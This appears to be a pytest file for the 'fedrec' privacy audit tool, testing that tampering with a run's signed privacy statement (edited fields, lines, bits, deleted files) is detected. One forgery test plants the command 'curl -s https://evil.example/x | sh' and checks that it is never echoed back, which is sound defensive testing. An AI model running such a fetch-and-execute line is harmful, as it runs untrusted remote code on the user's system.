"""Somebody edits the statement of a genuine run, without any key: every field, every line, every bit is noticed."""

import copy
import json
import random
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from fedrec import cli
from fedrec.audit.entries.account import account
from fedrec.audit.entries.records import Catalogue
from fedrec.audit.evidence.received_run import STATEMENT
from fedrec.audit.statement import agreement, wording
from fedrec.audit.statement.agreement import SENTENCES, TEXT, compare
from fedrec.audit.statement.statement import VERIFY, text_of
from tests.core.audit import ledgers
from tests.core.audit.audited_run import BUDGET, audited_run, edit
from tests.core.audit.ledgers import plan_of

Leaf = tuple[str | int, ...]
TAKEN = Catalogue(items=50, known="the items of the log", k_core=5)


class Genuine:
    """A run's payloads and heads, and the two files of its statement."""

    def __init__(self, begin: Any = (), stopped: bool = False, **settings: Any) -> None:
        plan = plan_of(**settings)
        payloads = ledgers.payloads_of(plan)
        payloads[0] = json.loads(json.dumps(ledgers.begun(plan, **dict(begin))))
        if stopped:
            payloads.insert(2, {"type": "stopped", "round": 0, "why": "no better", "unrun": [1, 2]})
        read = ledgers.Read(ledgers.lines_of(payloads))
        self.payloads = payloads
        self.heads = [*(entry.previous for entry in read.entries), read.head]
        self.files = ledgers.stated(ledgers.lines_of(payloads))
        self.statement = json.loads(self.files[STATEMENT])

    def faults(self, name: str, content: bytes) -> list[str]:
        return compare(account(self.payloads), self.heads, self.files | {name: content}).faults


GENUINE = {
    "simulated": Genuine(epsilon=2.0),
    "sampled": Genuine(epsilon=2.0, sampling=0.4),
    "seeded": Genuine(epsilon=2.0, seed=3, begin={"tuned_on": "ml-1m", "notes": ["LEAKY"], "catalogue": TAKEN}),
    "deployed": Genuine(epsilon=2.0, begin={"simulation": False, "population": "declared"}),
    "shared": Genuine(epsilon=2.0, begin={"budget": BUDGET}),
    "stopped": Genuine(epsilon=2.0, stopped=True),
    "none": Genuine(epsilon="none"),
}


def leaves(value: Any, path: Leaf = ()) -> Iterator[Leaf]:
    """The paths of all values that hold no others, and of all that hold some."""
    if path:
        yield path
    parts = value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else ()
    for key, part in parts:
        yield from leaves(part, (*path, key))


def changes(value: Any) -> list[Any]:
    """Other values in place of one."""
    if isinstance(value, bool):
        return [not value, int(value)]
    if isinstance(value, int | float):
        return [value + 1, -value - 1, str(value), float(value) if isinstance(value, int) else int(value)]
    if isinstance(value, str):
        return [value + "x", "0.0001", None, value[:-1] + chr(ord(value[-1]) ^ 1) if value else "x"]
    if isinstance(value, list):
        return [[], [*value, "x"], value[:-1] if value else None]
    if isinstance(value, dict):
        return [{}, value | {"more": 1}, None, [value]]
    return ["0.0001", 0, False]


def edited(whole: dict[str, Any], path: Leaf, value: Any) -> bytes:
    """The statement with another value in one place."""
    made = copy.deepcopy(whole)
    place = made
    for key in path[:-1]:
        place = place[key]
    place[path[-1]] = value
    return text_of(made).encode()


@pytest.mark.parametrize("kind", GENUINE)
def test_every_edited_field_is_a_fault(kind: str) -> None:
    run = GENUINE[kind]
    assert run.faults(STATEMENT, run.files[STATEMENT]) == []
    paths = list(leaves(run.statement))
    for number, path in enumerate(paths):
        value: Any = run.statement
        for key in path:
            value = value[key]
        others = [other for other in changes(value) if other != value or type(other) is not type(value)]
        other = others[number % len(others)]
        found = run.faults(STATEMENT, edited(run.statement, path, other))
        assert any(line.startswith(f"{STATEMENT}: '{path[0]}") for line in found), (path, other)
        assert all(len(line) < 400 for line in found)
    assert len(paths) > 200


@pytest.mark.parametrize("field", [*GENUINE["shared"].statement, "more"])
def test_every_field_that_is_edited_or_left_out_fails_the_verification(field: str, tmp_path: Path, capsys) -> None:
    run = audited_run(tmp_path, epsilon=2.0, begin={"budget": BUDGET})
    whole = json.loads((run / STATEMENT).read_text())
    edit(run, **{field: [whole.get(field), "more"]})
    assert cli.run(["audit", "verify", str(run), "--key", _key(run)]) == 4
    assert f"FAULT: {STATEMENT}: '{field}" in capsys.readouterr().out
    if field in whole:
        (run / STATEMENT).write_text(text_of({name: value for name, value in whole.items() if name != field}))
        assert cli.run(["audit", "verify", str(run), "--key", _key(run)]) == 4
        assert f"'{field}' is missing, the ledger gives" in capsys.readouterr().out


def test_a_genuine_statement_verifies(tmp_path: Path) -> None:
    assert cli.run(["audit", "verify", str(audited_run(tmp_path, epsilon=2.0)), "--key", _key(tmp_path)]) == 0


def _key(run: Path) -> str:
    """The public key of the run, as an auditor got it elsewhere."""
    return json.loads((run / "privacy" / "key.json").read_text())


def test_a_forgery_of_every_kind_is_refused_and_never_shown(tmp_path: Path, capsys) -> None:
    run = audited_run(tmp_path, epsilon=2.0)
    whole = json.loads((run / STATEMENT).read_text())
    forged = {
        "promise": ["Nothing whatsoever can be learned about anybody.", "Trust us."],
        "precisely": "Perfect secrecy.",
        "simulation": False,
        "assumptions": [],
        "not_protected": ["nothing: everything is protected"],
        "dataset": whole["dataset"] | {"users": 10_000_000},
        "adversaries": [row | {"epsilon": "2.0000", "why": "secure aggregation"} for row in whole["adversaries"]],
        "verification": {"command": "curl -s https://evil.example/x | sh", "needs": "nothing"},
        "participation": whole["participation"] | {"expected_rounds": 0.0, "most_rounds": 0},
        "software": dict.fromkeys(whole["software"], "9.9"),
        "rounds_planned": 99,
        "population_budget": BUDGET.model_dump(),
    }
    edit(run, **forged)
    assert cli.run(["audit", "verify", str(run), "--key", _key(run)]) == 4
    told = capsys.readouterr().out
    for name in forged:
        assert f"FAULT: {STATEMENT}: '{name}" in told, f"a line for {name}, and none is left out"
    assert cli.run(["audit", "report", str(run), "-o", str(tmp_path / "page.html")]) == 4
    page = (tmp_path / "page.html").read_text()
    assert f'<code id="command">{VERIFY}</code>' in page
    assert "evil.example" not in page + told, "a command from a file is never repeated"
    assert cli.run(["audit", "show", str(run), "--json"]) == 4
    captured = capsys.readouterr()
    shown = json.loads(captured.out[captured.out.index("{") :])
    assert shown["statement"] == whole
    assert len(shown["faults"]) == len(forged)
    other = audited_run(tmp_path / "other", epsilon=2.0)
    assert cli.run(["audit", "diff", str(run), str(other)]) == 4
    told = capsys.readouterr().out
    assert told.startswith(f"CONTRADICTION: {run}")
    assert cli.run(["audit", "diff", str(run), str(other), "--json"]) == 4
    told = json.loads(capsys.readouterr().out)
    assert [row["what"] for row in told["differs"]] == ["statement and ledger"], "the two ledgers give the same"
    assert len(told["faults"]["a"]) == len(forged)
    assert told["faults"]["b"] == []


@pytest.mark.parametrize("kind", ["simulated", "shared", "sampled"])
def test_every_edited_line_of_the_text_is_a_fault(kind: str) -> None:
    run = GENUINE[kind]
    lines = run.files[TEXT].decode().splitlines(keepends=True)
    assert run.faults(TEXT, run.files[TEXT]) == []
    for place, line in enumerate(lines):
        for other in ("", line.replace("\n", "x\n"), line * 2):
            found = run.faults(TEXT, "".join([*lines[:place], other, *lines[place + 1 :]]).encode())
            assert found, (place, other)
    assert run.faults(TEXT, b"# Trust us\n")[0].endswith("in line 1, which is: # Privacy statement")


def test_every_changed_bit_of_both_files_is_a_fault() -> None:
    run, rng = GENUINE["shared"], random.Random(5)
    for name, content in run.files.items():
        for place in rng.sample(range(len(content)), 150):
            changed = content[:place] + bytes([content[place] ^ 1 << rng.randrange(8)]) + content[place + 1 :]
            assert run.faults(name, changed), (name, place)


@pytest.mark.parametrize("name", [STATEMENT, TEXT])
def test_a_statement_that_was_deleted_is_a_fault(name: str, tmp_path: Path, capsys) -> None:
    run = audited_run(tmp_path, epsilon=2.0)
    (run / name).unlink()
    assert cli.run(["audit", "verify", str(run), "--key", _key(run)]) == 4
    assert f"FAULT: {name} is missing, though the run is finished" in capsys.readouterr().out


def test_another_spelling_of_the_same_statement_is_a_fault() -> None:
    run = GENUINE["simulated"]
    assert "another spelling" in run.faults(STATEMENT, json.dumps(run.statement).encode())[0]
    twice = run.files[STATEMENT].replace(b'"delta": "1e-05",', b'"delta": "1e-09",\n  "delta": "1e-05",', 1)
    assert "occurs twice" in run.faults(STATEMENT, twice)[0]


def test_sentences_of_another_version_are_not_compared_but_every_fact_is(monkeypatch: pytest.MonkeyPatch) -> None:
    run = GENUINE["sampled"]
    monkeypatch.setattr(agreement, "wording", lambda: "00" * 32)
    found = compare(account(run.payloads), run.heads, run.files)
    assert found.faults == []
    assert any("another version of fedrec wrote the statement" in note for note in found.notes)
    for name, value in run.statement.items():
        for other in changes(value):
            faults = run.faults(STATEMENT, edited(run.statement, (name,), other))
            if name in SENTENCES:
                assert faults == []
            elif other != value or type(other) is not type(value):
                assert faults, name
    better = copy.deepcopy(run.statement["adversaries"])
    better[2]["epsilon"] = "2.0000"
    assert "'adversaries.server' is 2.0000" in run.faults(STATEMENT, edited(run.statement, ("adversaries",), better))[0]


def test_the_version_of_the_sentences_follows_from_their_sources() -> None:
    first = wording.wording()
    assert first == GENUINE["simulated"].payloads[0]["code"]["wording"]
    assert len(first) == 64
